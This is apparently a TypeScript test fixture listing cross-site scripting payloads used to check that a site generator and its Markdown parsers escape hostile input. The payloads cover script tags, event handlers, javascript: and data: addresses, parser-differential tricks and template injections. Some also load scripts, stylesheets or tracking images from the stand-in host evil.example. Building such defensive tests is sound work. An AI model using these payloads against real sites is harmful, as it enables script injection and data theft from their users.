/** A text that runs code, or leaves the site, where it is taken for more than text. */
export interface Payload {
  readonly id: number;
  /** `p12`: names the payload in keys, classes and file names. */
  readonly key: string;
  readonly text: string;
  /** The text on one line, for places that hold no more. */
  readonly line: string;
}

// `HIT` stands for a call that the test sees, `TICK` for one without parentheses.

/** What the whole site is built with. */
const core: readonly string[] = [
  // Elements.
  '<script>HIT</script>',
  '<<script>HIT//<</script>',
  '<script src=https://evil.example/x.js></script>',
  '<script type=module>import("data:text/javascript,HIT")</script>',
  '<img src=x onerror=HIT>',
  '<img src=x onerror="HIT"//',
  '<img src=https://evil.example/leak.gif>',
  '<svg onload=HIT>',
  '<svg><script>HIT</script></svg>',
  '<svg><animate onbegin=HIT attributeName=x dur=1s></svg>',
  '<svg><a><animate attributeName=href values=javascript:HIT /><text x=20 y=20>x</text></a></svg>',
  '<body onload=HIT>',
  '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
  '<iframe src="javascript:parent.HIT"></iframe>',
  '<object data="data:text/html,<script>parent.HIT</script>"></object>',
  '<video src=x onerror=HIT>',
  '<details open ontoggle=HIT>x</details>',
  '<input autofocus onfocus=HIT>',
  '<a href="javascript:HIT" id=x>x</a>',
  '<form action="javascript:HIT"><button autofocus>x</button></form>',
  '<form><button formaction="javascript:HIT">x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=data:text/html,<script>HIT</script>">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="width:expression(HIT);background:url(https://evil.example/y.png)">x</div>',
  '<xss style="animation:x" onanimationstart=HIT></xss>',
  // What a parser and a writer of HTML read differently.
  '<noscript><p title="</noscript><img src=x onerror=HIT>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=HIT&gt;"></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT></style></mglyph></form>',
  '<textarea><img title="</textarea><img src=x onerror=HIT>">',
  '<!--><img src=x onerror=HIT>-->',
  '<![CDATA[<img src=x onerror=HIT>]]>',
  '<a title="<a title="><img src=x onerror=HIT>">x</a>',
  // Ends of what a text may stand in.
  '"><img src=x onerror=HIT>',
  "'><img src=x onerror=HIT>",
  '`><img src=x onerror=TICK>',
  '" autofocus onfocus=HIT x="',
  "' autofocus onfocus='HIT' x='",
  '` onmouseover=TICK x=`',
  '&quot;&gt;&lt;img src=x onerror=HIT&gt;',
  '</script><script>HIT</script>',
  '<!--<script>HIT//-->',
  '"}</script><img src=x onerror=HIT>{"',
  '</title><img src=x onerror=HIT>',
  '</textarea><img src=x onerror=HIT>',
  ']]><script xmlns="http://www.w3.org/1999/xhtml">HIT</script>',
  '--><img src=x onerror=HIT><!--',
  "';HIT;'",
  '\u2028HIT\u2029//',
  '\\u003cimg src=x onerror=HIT\\u003e',
  '${HIT}',
  '{{HIT}}',
  '{x, select, other {<img src=x onerror=HIT>}}',
  // Addresses.
  'javascript:HIT',
  ' javascript:HIT',
  '\u0001javascript:HIT',
  'java\tscript:HIT',
  'javascript&colon;HIT',
  '&#x6A;avascript:HIT',
  'java&Tab;script:HIT',
  'javascript%3AHIT',
  'javascript://%0aHIT',
  'vbscript:HIT',
  'data:text/html,<script>HIT</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="HIT"/>',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example\\x',
  '/\t/evil.example/x',
  'https://evil.example/"onmouseover="HIT',
  // Markdown.
  '[x](javascript:HIT)',
  '![x"onerror="HIT](x "y"onerror="HIT")',
  '<javascript:HIT>',
  '[x]: javascript:HIT "t"\n\n[x]',
  '[x](https://evil.example "\\"onmouseover=\\"HIT")',
  ':::note{title="\\"><img src=x onerror=HIT>"}\nx\n:::',
  '`<img src=x onerror=HIT>`',
  '| <img src=x onerror=HIT> |\n|---|\n| " onmouseover=HIT |',
  '[^"><img src=x onerror=HIT>]',
  // What the generator itself puts into the HTML on its way.
  '<img src=x onerror=HIT> href="sitegen:',
  '<img src=x onerror=HIT> <a href="sitegen:path:/fr" x="',
  '<sg-slot n="0"></sg-slot><img src=x onerror=HIT>',
  '<sg-mark n="0"></sg-mark><img src=x onerror=HIT>',
  "$& $` $' $1 <img src=x onerror=HIT>",
  '%s <img src=x onerror=HIT> %s',
  // Characters.
  '<scr\u0000ipt>HIT</scr\u0000ipt>',
  '\u0000javascript:HIT',
  '\u202E<img src=x onerror=HIT>\u202C',
  '\u001B$B<img src=x onerror=HIT>\u001B(B',
  '__proto__',
];

/** Other spellings of the same, which the Markdown parsers alone are tried with. */
const variants: readonly string[] = [
  // Elements.
  '<ScRiPt\n>HIT</sCrIpT >',
  '<script/x>HIT</script/y>',
  '<scr<script>ipt>HIT</scr</script>ipt>',
  '<script src=//evil.example/x.js></script>',
  '<script>HIT',
  '<IMG SRC=x OnErRoR=HIT>',
  '<img/src=x/onerror=HIT>',
  '<img src=x\u000Conerror=HIT>',
  '<img src=`x`onerror=TICK>',
  '<img src=x: srcset="https://evil.example/leak.gif 1x">',
  '<svg/onload=HIT/>',
  '<svg><script href="data:text/javascript,HIT" /></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x"/></svg>',
  '<iframe src=https://evil.example/></iframe>',
  '<object data="javascript:HIT"></object>',
  '<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22HIT%22/>">',
  '<video><source onerror=HIT></video>',
  '<audio src=x onerror=HIT>',
  '<select autofocus onfocus=HIT><option>x</select>',
  '<marquee onstart=HIT>x</marquee>',
  '<isindex type=image src=1 onerror=HIT>',
  '<base href="javascript:HIT//">',
  '<meta http-equiv="refresh" content="0; url=javascript:HIT">',
  '<link rel=preload as=script href=https://evil.example/x.js>',
  '<style>*{background:url(https://evil.example/x.png)}</style>',
  '<div style="background-image:url(javascript:HIT)">x</div>',
  '<table background="https://evil.example/t.png"><td>x',
  '<template><script>HIT</script></template><img src=x onerror=HIT>',
  '<x onclick=HIT tabindex=1 autofocus onfocus=HIT>x</x>',
  '<div contenteditable autofocus onfocus=HIT>x</div>',
  // What a parser and a writer of HTML read differently.
  '<math><mi xlink:href="data:x,<script>HIT</script>"><annotation-xml encoding="text/html"><script>HIT</script></annotation-xml></math>',
  '<svg></p><style><a id="</style><img src=x onerror=HIT>"></svg>',
  '<svg><title><style><img src=x onerror=HIT></style></title></svg>',
  '<listing>&lt;img src=x onerror=HIT&gt;</listing>',
  '<title><img title="</title><img src=x onerror=HIT>">',
  '<xmp><p title="</xmp><img src=x onerror=HIT>">',
  '<!-- --!><img src=x onerror=HIT> -->',
  '<?xml version="1.0"?><img src=x onerror=HIT>',
  '<!DOCTYPE x [<!ENTITY e "<script>HIT</script>">]>&e;',
  // Ends of what a text may stand in.
  '\\"><img src=x onerror=HIT>',
  '&#34;&#62;&#60;img src=x onerror=HIT&#62;',
  '</SCRIPT\t><img src=x onerror=HIT>',
  '</style><img src=x onerror=HIT>',
  'javascript\\:HIT',
  '*/HIT/*',
  '";HIT;//',
  '`${HIT}`',
  "{{constructor.constructor('HIT')()}}",
  '#{HIT} <%= HIT %>',
  // Addresses.
  'JaVaScRiPt:HIT',
  'java\nscript:HIT',
  'javascript\t:HIT',
  'javascript&#58;HIT',
  '&#0000106avascript:HIT',
  'java&NewLine;script:HIT',
  'javascript://evil.example/%0d%0aHIT//',
  '\uFF4Aavascript:HIT',
  'java\u017Fcript:HIT',
  '\u200Bjavascript:HIT',
  'livescript:HIT',
  'data:text/html;base64,PHNjcmlwdD5fX2hpdCgxKTwvc2NyaXB0Pg==',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'view-source:javascript:HIT',
  'https:evil.example',
  'mailto:x@evil.example?"onmouseover="HIT',
  // Markdown.
  '[x](<java\nscript:HIT>)',
  '![x](javascript:HIT "t")',
  ':img{src=x onerror=HIT}',
  '::script[HIT]',
  // What the generator itself puts into the HTML on its way.
  'href="sitegen:path:/"><img src=x onerror=HIT>',
  '<sg-slot data-open="0"></sg-slot><img src=x onerror=HIT>',
  // Characters.
  '<img src=x onerror=HIT\u0000>',
  '\uFF1Cimg src=x onerror=HIT\uFF1E',
  '\u02BAonmouseover=HIT\u02BA',
  '+ADw-script+AD4-HIT+ADw-/script+AD4-',
  '\u00BCscript\u00BEHIT\u00BC/script\u00BE',
  'constructor',
];

export const allPayloads: readonly Payload[] = [...core, ...variants].map((template, index) => {
  const id = index + 1;
  const text = template.replaceAll('HIT', `__hit(${id})`).replaceAll('TICK', `__hit\`${id}\``);
  return { id, key: `p${id}`, text, line: text.replaceAll(/[\r\n]+/g, ' ') };
});

export const payloads = allPayloads.slice(0, core.length);

/** As the sources of a site can hold them: a text with control characters is refused as a whole. */
export function withoutControls(list: readonly Payload[]): readonly Payload[] {
  return list.map((payload) => ({ ...payload, text: strip(payload.text), line: strip(payload.line) }));
}

function strip(text: string): string {
  return text.replaceAll(/(?![\t\n\r])\p{Cc}/gu, '');
}
